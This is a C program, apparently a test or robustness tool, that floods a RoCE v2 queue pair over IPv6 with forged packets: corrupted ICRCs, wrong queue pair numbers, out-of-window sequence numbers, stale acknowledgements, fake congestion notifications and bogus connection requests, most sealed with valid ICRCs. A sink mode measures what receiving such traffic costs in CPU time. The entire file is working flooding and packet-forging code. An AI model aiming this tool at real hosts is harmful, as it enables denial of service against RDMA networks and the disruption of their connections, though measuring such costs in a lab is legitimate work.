/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * Sends packets of RoCE v2 that mean harm to a queue pair, as many as it can, over IPv6: bad ICRCs,
 * unknown queue pairs, PSNs ahead and behind, stale acknowledgements, notifications of congestion,
 * management datagrams. All but the first have a right ICRC, and the peer's address.
 *
 * usage: roce_flood KIND SECONDS SOURCE DESTINATION QUEUE-PAIR PSN [PORT]
 *   KIND  icrc qpn ahead behind ack cnp mad; PSN: the next one that the queue pair expects
 * Prints how many packets it sent.
 *
 * usage: roce_flood sink ADDRESS PORT
 * takes packets until none comes for a second, and prints how many, and its CPU time in us: what
 * any program has to pay that looks at them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>

#define PORT 4791
#define MOST 300	/* bytes of a packet */
#define BATCH 64

static uint32_t table[256];

static uint32_t crc(uint32_t crc, const uint8_t *octets, size_t length)
{
	while (length--)
		crc = crc >> 8 ^ table[(crc ^ *octets++) & 0xff];
	return crc;
}

static void put24(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 16);
	at[1] = (uint8_t)(value >> 8);
	at[2] = (uint8_t)value;
}

/* Appends the ICRC of what stands between UDP header and ICRC; the length with it. */
static size_t seal(uint8_t *packet, size_t length, const struct sockaddr_in6 *from,
		   const struct sockaddr_in6 *to)
{
	uint16_t udp = htons((uint16_t)(length + 12));
	uint8_t header[56], congestion = packet[4];
	uint32_t sum;

	memset(header, 0xff, sizeof header);
	header[8] = 0x6f;
	memcpy(header + 12, &udp, 2);
	header[14] = 17;
	memcpy(header + 16, &from->sin6_addr, 16);
	memcpy(header + 32, &to->sin6_addr, 16);
	memcpy(header + 48, &from->sin6_port, 2);
	memcpy(header + 50, &to->sin6_port, 2);
	memcpy(header + 52, &udp, 2);
	packet[4] = 0xff;
	sum = ~crc(crc(~0u, header, sizeof header), packet, length);
	packet[4] = congestion;
	memcpy(packet + length, &sum, 4);
	return length + 4;
}

static size_t build(uint8_t *packet, const char *kind, uint32_t qp, uint32_t psn, uint32_t number)
{
	uint32_t noise = number * 2654435761u;

	memset(packet, 0, MOST);
	packet[1] = 0x40;
	packet[2] = packet[3] = 0xff;
	packet[8] = 0x80;
	put24(packet + 5, qp);
	put24(packet + 9, psn);
	if (!strcmp(kind, "cnp")) {
		packet[0] = 0x81;
		packet[4] = 0x40;
		packet[8] = 0;
		return 28;
	}
	if (!strcmp(kind, "ack")) {
		packet[0] = 0x11;
		packet[8] = 0;
		packet[12] = 31;
		put24(packet + 9, noise >> 8);
		return 16;
	}
	if (!strcmp(kind, "mad")) {
		packet[0] = 0x64;
		put24(packet + 5, 1);
		memcpy(packet + 12, (uint8_t[]){ 0x80, 1, 0, 0, 0, 0, 0, 1 }, 8);
		/* a REQ for a service that nobody has, from ever another communication */
		memcpy(packet + 20, (uint8_t[]){ 1, 7, 2, 3 }, 4);
		memcpy(packet + 28, &noise, 4);
		packet[37] = 0x10;
		memcpy(packet + 44, &noise, 4);
		memcpy(packet + 52, (uint8_t[]){ 0, 0, 0, 0, 1, 6, 0x7f, 0xff }, 8);
		return 20 + 256;
	}
	/* a Write of 64 bytes to a region that nobody has named */
	packet[0] = 0x0a;
	memcpy(packet + 20, &noise, 4);
	packet[27] = 64;
	if (!strcmp(kind, "qpn"))
		put24(packet + 5, (qp & 0xffff00) | ((qp + 1 + number % 200) & 0xff));
	if (!strcmp(kind, "ahead"))
		put24(packet + 9, psn + 1000 + (number & 0xffff));
	if (!strcmp(kind, "behind"))
		put24(packet + 9, psn - 1 - (number & 0xffff));
	return 28 + 64;
}

static long cpu(void)
{
	struct rusage used;

	getrusage(RUSAGE_SELF, &used);
	return (used.ru_utime.tv_sec + used.ru_stime.tv_sec) * 1000000 + used.ru_utime.tv_usec +
	       used.ru_stime.tv_usec;
}

static int sink(const char *address, const char *port)
{
	static uint8_t packets[BATCH][MOST];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec pieces[BATCH];
	struct sockaddr_in6 at = { .sin6_family = AF_INET6, .sin6_port = htons(atoi(port)) };
	struct timeval second = { 1, 0 };
	unsigned long taken = 0;
	int sock = socket(AF_INET6, SOCK_DGRAM, 0), room = 4 << 20, got;

	if (inet_pton(AF_INET6, address, &at.sin6_addr) != 1 ||
	    bind(sock, (struct sockaddr *)&at, sizeof at)) {
		perror("roce_flood: sink");
		return 1;
	}
	setsockopt(sock, SOL_SOCKET, SO_RCVBUF, &room, sizeof room);
	for (int i = 0; i < BATCH; i++) {
		pieces[i] = (struct iovec){ packets[i], MOST };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &pieces[i], .msg_iovlen = 1 };
	}
	/* However long the first one takes to come. */
	got = recvmmsg(sock, messages, BATCH, MSG_WAITFORONE, NULL);
	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
	for (; got > 0; got = recvmmsg(sock, messages, BATCH, MSG_WAITFORONE, NULL))
		taken += (unsigned long)got;
	printf("%lu %ld\n", taken, cpu());
	return 0;
}

int main(int argc, char **argv)
{
	static uint8_t packets[BATCH][MOST];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec pieces[BATCH];
	struct sockaddr_in6 from = { .sin6_family = AF_INET6 }, to = from;
	socklen_t length = sizeof from;
	unsigned long sent = 0;
	struct timespec at;
	double end;
	int sock;

	if (argc == 4 && !strcmp(argv[1], "sink"))
		return sink(argv[2], argv[3]);
	if (argc < 7 || inet_pton(AF_INET6, argv[3], &from.sin6_addr) != 1 ||
	    inet_pton(AF_INET6, argv[4], &to.sin6_addr) != 1) {
		fprintf(stderr, "usage: roce_flood KIND SECONDS SOURCE DESTINATION QUEUE-PAIR PSN [PORT]\n");
		return 2;
	}
	for (uint32_t i = 0; i < 256; i++) {
		table[i] = i;
		for (int bit = 0; bit < 8; bit++)
			table[i] = table[i] >> 1 ^ (table[i] & 1 ? 0xedb88320u : 0);
	}
	to.sin6_port = htons(argc > 7 ? atoi(argv[7]) : PORT);
	sock = socket(AF_INET6, SOCK_DGRAM, 0);
	if (sock < 0 || bind(sock, (struct sockaddr *)&from, sizeof from) ||
	    getsockname(sock, (struct sockaddr *)&from, &length)) {
		perror("roce_flood");
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &at);
	end = (double)at.tv_sec + (double)at.tv_nsec / 1e9 + atof(argv[2]);
	do {
		int taken;

		for (int i = 0; i < BATCH; i++) {
			size_t octets = build(packets[i], argv[1], (uint32_t)strtoul(argv[5], NULL, 0),
					      (uint32_t)strtoul(argv[6], NULL, 0), (uint32_t)sent + (uint32_t)i);

			octets = seal(packets[i], octets, &from, &to);
			if (!strcmp(argv[1], "icrc"))
				packets[i][octets - 1] ^= 0x55;
			pieces[i] = (struct iovec){ packets[i], octets };
			messages[i].msg_hdr = (struct msghdr){
				.msg_name = &to, .msg_namelen = sizeof to,
				.msg_iov = &pieces[i], .msg_iovlen = 1 };
		}
		taken = sendmmsg(sock, messages, BATCH, 0);
		if (taken > 0)
			sent += (unsigned long)taken;
		clock_gettime(CLOCK_MONOTONIC, &at);
	} while ((double)at.tv_sec + (double)at.tv_nsec / 1e9 < end);
	printf("%lu\n", sent);
	return 0;
}
